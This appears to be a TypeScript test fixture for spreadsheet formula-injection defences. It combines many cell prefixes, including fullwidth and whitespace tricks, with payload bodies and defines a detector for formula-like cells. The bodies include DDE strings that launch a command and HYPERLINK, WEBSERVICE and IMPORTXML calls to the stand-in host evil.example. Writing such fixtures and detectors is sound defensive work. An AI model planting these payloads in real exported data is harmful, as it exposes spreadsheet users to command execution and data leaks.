/**
 * Texts that a spreadsheet would run as formulas, as a title or a tag of somebody else's page may
 * be.
 */
const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n=',
  ' =',
  '\u00a0=',
  '\ufeff=',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  '"=',
  ';=',
  ',=',
  '; =',
  '\t=',
  '\ta\t=',
  'a\n=',
  'a\r\n@',
  "'=",
  '"\t=',
  '";=',
];
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example","x")',
  'WEBSERVICE("http://evil.example")',
  'IMPORTXML("http://evil.example","//a")',
  'DDE("cmd";"/C calc";"x")',
  '@SUM(1)',
];

export const FORMULAS: readonly string[] = STARTS.flatMap((start) =>
  BODIES.map((body) => `${start}${body}`),
);
/** Whether a spreadsheet takes a cell that begins so for a formula. */
export const isFormula = (cell: string): boolean =>
  /^[\s\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/.test(cell);
